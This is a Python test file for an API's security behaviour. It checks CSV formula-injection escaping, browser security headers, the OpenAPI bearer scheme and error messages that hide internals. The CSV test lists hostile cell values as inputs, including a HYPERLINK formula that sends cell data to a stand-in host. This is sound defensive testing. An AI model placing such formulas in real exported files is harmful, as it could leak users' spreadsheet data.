"""Issue 11: the walls between callers, and what the API answers that a browser or a spreadsheet reads."""

from __future__ import annotations

import csv
import io

from spplus.client import PUBLIC_LIST_COLUMNS, rows_to_csv

from .test_api import api, auth, started  # noqa: F401  (the API fixture)


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised():
    # OWASP's CSV-injection rule: = + - @ tab CR at the start of a cell make it a formula in Excel/LibreOffice.
    hostile = ['=HYPERLINK("http://x"&A2,"y")', "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
    rows = [{"candidate": h, "tier": "bronze", "status": "valid", "suspended": False,
             "certification_body": h, "expires": "2029-01-01"} for h in hostile]
    read = list(csv.DictReader(io.StringIO(rows_to_csv(rows, PUBLIC_LIST_COLUMNS))))
    assert [r["candidate"] for r in read] == ["'" + h for h in hostile]
    assert [r["certification_body"] for r in read] == ["'" + h for h in hostile]
    assert read[0]["tier"] == "bronze" and read[0]["suspended"] == "False"


def test_an_empty_list_is_its_header_alone():
    assert rows_to_csv([], PUBLIC_LIST_COLUMNS) == ",".join(PUBLIC_LIST_COLUMNS) + "\r\n"


async def test_answers_carry_the_headers_a_browser_needs(api):
    public = await api.get("/public/labels.csv")
    assert public.headers["x-content-type-options"] == "nosniff"
    assert "default-src 'none'" in public.headers["content-security-policy"]
    assert public.text.splitlines()[0] == ",".join(PUBLIC_LIST_COLUMNS)
    cid = await started(api)
    read = await api.get(f"/cycles/{cid}", headers=auth(api, "alpha"))
    assert read.status_code == 200 and read.headers["cache-control"] == "no-store"


async def test_the_openapi_document_declares_its_bearer_scheme(api):
    document = (await api.get("/openapi.json")).json()
    schemes = document["components"]["securitySchemes"]
    assert any(s["type"] == "http" and s["scheme"].lower() == "bearer" for s in schemes.values())


async def test_errors_never_carry_temporals_internals(api):
    answer = await api.post("/cycles/nope/events", headers=auth(api, "alpha"),
                            json={"type": "self_assessment", "done_on": "2026-01-01"})
    assert answer.status_code == 404
    assert "workflow" not in answer.text.lower() and "grpc" not in answer.text.lower()
